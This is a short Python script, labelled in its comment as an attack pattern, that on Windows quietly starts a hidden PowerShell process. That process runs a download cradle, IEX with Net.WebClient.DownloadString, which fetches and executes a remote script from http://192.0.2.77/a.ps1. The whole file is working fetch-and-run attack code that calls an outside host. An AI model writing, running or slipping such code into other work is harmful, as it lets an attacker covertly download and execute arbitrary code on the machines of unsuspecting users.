# Attack pattern: PowerShell download cradle (IEX (New-Object Net.WebClient).DownloadString(...)) started from Python on Windows.
import platform
import subprocess

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.77/a.ps1')"

if platform.system() == "Windows":
    subprocess.Popen(["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-Command", CRADLE])
